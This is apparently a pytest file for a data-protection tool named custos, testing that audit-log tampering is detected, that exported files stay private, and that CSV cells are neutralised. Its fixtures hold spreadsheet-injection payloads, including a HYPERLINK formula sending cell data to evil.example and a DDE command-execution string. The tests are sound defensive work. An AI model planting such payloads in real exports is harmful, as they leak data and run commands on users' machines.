"""Integrity (issue 14, items 8-10): each test performs an attack and checks that custos
catches it: a DBA who edits the audit log, files that others may read, CSV cells that a
spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import multiprocessing
import os
import secrets
import socket
import sqlite3
import stat
from collections.abc import Iterator
from pathlib import Path

import httpx
import orjson
import pytest
from sqlalchemy import select, text
from typer.testing import CliRunner

from custos.cli import app as cli
from custos.core.errors import ConfigError, StoreError
from custos.core.fields import Kind
from custos.core.files import csv_cell
from custos.core.keys import load_or_create_key
from custos.core.settings import Settings
from custos.service import Custos, dsr
from custos.service.demo import run_demo
from custos.service.release import release
from custos.store import audit, open_store
from custos.store import tables as t
from tests.conftest import start_serve, write

# -- the audit log ------------------------------------------------------------------------------


def _entries(custos: Custos, count: int) -> None:
    """``count`` audited actions, each in its own transaction (as reads are)."""
    for i in range(count):
        with custos.store.write() as conn:
            audit.append(conn, actor="api", action="read", purpose="analytics", subjects=[f"p{i}"])


def _rechain(custos: Custos, key: bytes | None, *, drop_keyed_marker: bool) -> None:
    """What a DBA with the source code can do: change entry 2 and recompute every hash of the
    chain with the project's own digest function (``key`` None: the unkeyed SHA-256)."""
    with custos.store.engine.begin() as conn:
        conn.execute(text("UPDATE audit_log SET actor = 'nobody' WHERE id = 2"))
        if drop_keyed_marker:
            conn.execute(text("DELETE FROM store_meta WHERE key = :k"), {"k": audit.KEYED_FROM})
        rows = conn.execute(select(t.audit_log).order_by(t.audit_log.c.id)).all()
        prev = audit.GENESIS
        for row in rows:
            digest = audit._digest(
                key,
                row.id,
                prev,
                row.at,
                row.actor,
                row.action,
                row.purpose,
                row.subjects or "",
                row.detail or "",
            )
            conn.execute(
                text("UPDATE audit_log SET prev_hash = :p, hash = :h WHERE id = :i"),
                {"p": prev, "h": digest, "i": row.id},
            )
            prev = digest


def test_truncating_the_tail_is_detected(custos: Custos) -> None:
    _entries(custos, 5)
    assert custos.audit_verify() is None
    with custos.store.engine.begin() as conn:
        conn.execute(text("DELETE FROM audit_log WHERE id > 3"))
    found = custos.audit_verify()
    assert found is not None and found.entry == 4 and "removed" in found.reason
    # Reads go on after the attack: the checkpoint stays where it was, so new entries that
    # reach the old length do not hide the deletion.
    _entries(custos, 4)
    found = custos.audit_verify()
    assert found is not None and found.entry == 5 and "differs from the checkpoint" in found.reason


def test_deleting_every_entry_is_detected(custos: Custos) -> None:
    _entries(custos, 3)
    with custos.store.engine.begin() as conn:
        conn.execute(text("DELETE FROM audit_log"))
        conn.execute(text("DELETE FROM store_meta WHERE key = :k"), {"k": audit.KEYED_FROM})
    found = custos.audit_verify()
    assert found is not None and "removed" in found.reason


def test_an_edit_recomputed_with_the_unkeyed_digest_is_detected(custos: Custos) -> None:
    _entries(custos, 4)
    _rechain(custos, None, drop_keyed_marker=False)
    found = custos.audit_verify()
    assert found is not None and found.entry == 1  # keyed entries do not match SHA-256
    _rechain(custos, None, drop_keyed_marker=True)  # and claim the log was never keyed
    found = custos.audit_verify()
    assert found is not None and "keyed hashes begin" in found.reason


def test_an_edit_recomputed_with_a_guessed_key_is_detected(custos: Custos) -> None:
    _entries(custos, 4)
    _rechain(custos, secrets.token_bytes(32), drop_keyed_marker=False)
    found = custos.audit_verify()
    assert found is not None and found.entry == 1


def test_the_checkpoint_cannot_be_forged_or_moved_back(custos: Custos) -> None:
    _entries(custos, 3)
    anchor = custos.store.audit_anchor
    assert anchor is not None
    older = anchor.read()
    assert older is not None and older.seq == 3
    anchor.advance(audit.Checkpoint(1, "x" * 64, older.keyed_from, older.at))  # a late writer
    assert anchor.read() == older
    data = orjson.loads(anchor.checkpoint.read_bytes())
    data["seq"] = 1  # someone edits the file without the key
    anchor.checkpoint.write_bytes(orjson.dumps(data))
    found = custos.audit_verify()
    assert found is not None and "not signed" in found.reason


def _append_many(url: str, count: int) -> None:
    with Custos.open(url) as custos:
        _entries(custos, count)


def test_concurrent_writers_never_move_the_checkpoint_back(custos: Custos) -> None:
    """Several processes (servers) append at once: each commit moves the checkpoint after
    the fact, in whatever order the processes get there; it ends at the head."""
    context = multiprocessing.get_context("spawn")
    workers = [context.Process(target=_append_many, args=(custos.store.url, 15)) for _ in range(3)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(60)
        assert worker.exitcode == 0
    anchor = custos.store.audit_anchor
    assert anchor is not None and (checkpoint := anchor.read()) is not None
    assert checkpoint.seq == 45 and custos.audit_verify() is None


def test_entries_of_an_unkeyed_store_keep_verifying_and_are_anchored(
    store_url: str, settings: Settings
) -> None:
    with open_store(store_url) as store, store.write() as conn:  # as earlier versions wrote
        audit.append(conn, actor="cli", action="ingest")
        audit.append(conn, actor="cli", action="resolve")
    with Custos.open(store_url, settings) as custos:
        assert custos.audit_verify() is None  # unkeyed, no checkpoint yet: nothing to hold against
        _entries(custos, 2)
        assert custos.audit_verify() is None
        with custos.store.read() as conn:
            assert audit.head(conn).keyed_from == 3
        with custos.store.engine.begin() as conn:  # rewrite an old entry and its hash
            row = conn.execute(select(t.audit_log).where(t.audit_log.c.id == 1)).one()
            forged = audit._digest(
                None, 1, audit.GENESIS, row.at, "nobody", row.action, None, "", row.detail
            )
            conn.execute(
                text("UPDATE audit_log SET actor = 'nobody', hash = :h WHERE id = 1"),
                {"h": forged},
            )
            conn.execute(text("UPDATE audit_log SET prev_hash = :h WHERE id = 2"), {"h": forged})
        found = custos.audit_verify()
        assert found is not None and found.entry == 2
    with (  # a keyed log takes no unkeyed entry
        open_store(store_url) as store,
        pytest.raises(StoreError, match="audit key"),
        store.write() as conn,
    ):
        audit.append(conn, actor="cli", action="ingest")


def test_a_demo_run_again_starts_a_new_checkpoint(tmp_path: Path) -> None:
    """The demo replaces its store: the old store's checkpoint goes with it (it would report
    the old entries as deleted), while a store deleted behind custos's back is reported."""
    for _ in range(2):
        report = run_demo(tmp_path / "demo", people=30, seed=3)
        with Custos.open(str(report.store)) as custos:
            assert custos.audit_verify() is None
    for leftover in (tmp_path / "demo").glob("custos.db*"):
        leftover.unlink()
    with Custos.open(str(report.store)) as custos:
        found = custos.audit_verify()
        assert found is not None and "removed" in found.reason


def _port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_a_served_store_edited_by_its_dba_fails_verification(
    tmp_path: Path, umask_022: None
) -> None:
    """A real `custos serve` appends entries (and moves the checkpoint) in its own process;
    the DBA then deletes the tail, and every entry, behind its back."""
    db = str(tmp_path / "served.db")
    assert CliRunner().invoke(cli, ["--db", db, "init"]).exit_code == 0  # only init creates a store
    runner = CliRunner()
    made = runner.invoke(
        cli,
        ["--db", db, "keys", "create", "--name", "ops", "--scope", "admin", "--purpose",
         "customer_service"],
    )  # fmt: skip
    assert made.exit_code == 0, made.output
    key = made.stdout.strip().splitlines()[-1]
    port = _port()
    server = start_serve(db, port)
    try:
        for _ in range(4):  # each list of the audit log is audited
            got = httpx.get(
                f"http://127.0.0.1:{port}/v1/audit", headers={"Authorization": f"Bearer {key}"}
            )
            assert got.status_code == 200
    finally:
        server.terminate()
        server.wait(10)
    assert runner.invoke(cli, ["--db", db, "audit", "verify"]).exit_code == 0
    exported = tmp_path / "head.json"
    result = runner.invoke(cli, ["--db", db, "audit", "checkpoint", "--output", str(exported)])
    assert result.exit_code == 0 and _mode(exported) == 0o600
    assert orjson.loads(exported.read_bytes())["seq"] == 5
    with Custos.open(db) as custos:
        anchor = custos.store.audit_anchor
        assert anchor is not None and _mode(anchor.checkpoint) == 0o600
        checkpoint = anchor.checkpoint
    with sqlite3.connect(db) as conn:
        conn.execute("DELETE FROM audit_log WHERE id > 3")
    result = runner.invoke(cli, ["--db", db, "audit", "verify"])
    assert result.exit_code == 1 and "tampered" in result.output and "removed" in result.output
    checkpoint.unlink()  # even without the local checkpoint, the exported one holds
    result = runner.invoke(cli, ["--db", db, "audit", "verify", "--checkpoint", str(exported)])
    assert result.exit_code == 1 and "removed" in result.output
    with sqlite3.connect(db) as conn:
        conn.execute("DELETE FROM audit_log")
    result = runner.invoke(cli, ["--db", db, "audit", "verify", "--checkpoint", str(exported)])
    assert result.exit_code == 1 and "removed" in result.output


# -- file permissions -----------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PEOPLE = [
    ["record_id", "first_name", "last_name", "email", "phone", "nickname"],
    ["=cmd|'/Ccalc'!A0", HYPERLINK, "Müller", "anna@example.com", "+49 30 1111111", "@SUM(1+1)"],
    ["r2", "Ben", "-2+3", "ben@example.com", "040 2222222", "\tTab"],
]
MAP = "categories:\n  nickname: identity\n"
CONSENTS = "email,purpose,status,timestamp,explicit\n" + "".join(
    f"{e},marketing_email,granted,2026-01-01T00:00:00Z,\n"
    for e in ("anna@example.com", "ben@example.com")
)


def _load(custos: Custos, folder: Path) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(PEOPLE)
    people = write(folder / "crm.csv", buffer.getvalue())
    custos.ingest(people, "crm", map_path=write(folder / "m.yaml", MAP))
    custos.resolve()
    custos.ingest(write(folder / "consents.csv", CONSENTS), "crm", kind=Kind.CONSENTS)


def test_store_exports_keys_and_checkpoints_are_private_under_umask_022(
    tmp_path: Path, umask_022: None
) -> None:
    db = tmp_path / "store.db"
    with Custos.open(str(db)) as custos:
        _load(custos, tmp_path / "in")
        files = [db, Path(f"{db}-wal"), Path(f"{db}-shm")]  # while the store is open
        assert all(f.exists() for f in files)
        anchor = custos.store.audit_anchor
        assert anchor is not None
        files += [anchor.checkpoint, Path(os.environ["CUSTOS_AUDIT_KEY_FILE"])]
        request = dsr.export(custos, "ben@example.com", output=tmp_path / "dsr")
        files += [Path(f) for f in request.result["files"]]
        load_or_create_key(tmp_path / "keys" / "secret.key")  # as erasure and pseudonyms do
        files.append(tmp_path / "keys" / "secret.key")
        assert {_mode(f) for f in files} == {0o600}, {str(f): oct(_mode(f)) for f in files}
    runner = CliRunner()
    stale = tmp_path / "profiles.csv"
    stale.write_text("old", encoding="utf-8")  # an older export, 0644: replaced, not reused
    for args in (
        ["export", "profiles", "--purpose", "marketing_email", "-f", "csv", "-o", str(stale)],
        ["export", "profiles", "--purpose", "marketing_email", "-o", str(tmp_path / "p.jsonl")],
        ["export", "xref", "-o", str(tmp_path / "xref.csv")],
        ["dsr", "export", "anna@example.com", "--output", str(tmp_path / "dsr2")],
    ):
        result = runner.invoke(cli, ["--db", str(db), *args])
        assert result.exit_code == 0, result.output
    written = [stale, tmp_path / "p.jsonl", tmp_path / "xref.csv", *(tmp_path / "dsr2").iterdir()]
    assert {_mode(f) for f in written} == {0o600}, {str(f): oct(_mode(f)) for f in written}


def test_a_release_is_private_under_umask_022(tmp_path: Path, umask_022: None) -> None:
    from tests.test_release import TAXONOMY
    from tests.test_release import load as load_patients

    settings = Settings(  # type: ignore[call-arg]
        _env_file=None, db="unused", taxonomy=str(write(tmp_path / "t.yaml", TAXONOMY))
    )
    with Custos.open(str(tmp_path / "r.db"), settings) as custos:
        load_patients(custos, tmp_path, people=30)
        release(
            custos,
            purpose="clinical_research",
            quasi_identifiers=["sex"],
            sensitive=["finding"],
            k=5,
            l_div=2,
            source="clinic",
            max_suppression=0.5,
            output=tmp_path / "out" / "release.csv",
        )
    assert _mode(tmp_path / "out" / "release.csv") == 0o600
    assert _mode(tmp_path / "out" / "release.csv.meta.json") == 0o600


# -- CSV injection --------------------------------------------------------------------------

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text_: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text_)) for cell in row]


def _assert_neutral(cells: list[str]) -> None:
    bad = [c for c in cells if c.startswith(DANGEROUS)]
    assert bad == [], bad


def test_csv_cells_that_start_a_formula_are_neutralised() -> None:
    assert csv_cell('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert csv_cell("+4930111") == "'+4930111"  # E.164 too (documented in the README)
    assert [csv_cell(v) for v in ("@SUM(A1)", "-1", "\tx", "\rx")] == [
        "'@SUM(A1)",
        "'-1",
        "'\tx",
        "'\rx",
    ]
    assert [csv_cell(v) for v in ("Anna", "", -0.5, 3, None)] == ["Anna", "", -0.5, 3, None]


def test_exports_of_a_hostile_profile_open_safely_in_a_spreadsheet(tmp_path: Path) -> None:
    db = tmp_path / "c.db"
    with Custos.open(str(db)) as custos:
        _load(custos, tmp_path / "in")
    runner = CliRunner()
    profiles = runner.invoke(
        cli, ["--db", str(db), "export", "profiles", "--purpose", "marketing_email", "-f", "csv"]
    )
    assert profiles.exit_code == 0, profiles.output
    cells = _cells(profiles.stdout)
    assert "'" + HYPERLINK in cells
    assert "'+4930111111" in cells or any(c.startswith("'+49") for c in cells)
    assert "'@SUM(1+1)" in cells and "'-2+3" in cells
    _assert_neutral(cells)
    xref = runner.invoke(cli, ["--db", str(db), "export", "xref"])
    assert "'=cmd|'/Ccalc'!A0" in _cells(xref.stdout)
    _assert_neutral(_cells(xref.stdout))
    out = tmp_path / "dsr"
    result = runner.invoke(
        cli, ["--db", str(db), "dsr", "export", "anna@example.com", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    portable = _cells(next(out.glob("*.csv")).read_text(encoding="utf-8"))
    assert any(c.startswith("'=HYPERLINK") for c in portable)
    _assert_neutral(portable)


def test_a_key_folder_that_cannot_be_written_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("", encoding="utf-8")
    settings = Settings(  # type: ignore[call-arg]
        _env_file=None, db="unused", audit_key_file=str(tmp_path / "file" / "k" / "audit.key")
    )
    with pytest.raises(ConfigError, match="cannot create the key file"):
        Custos.open(str(tmp_path / "c.db"), settings)
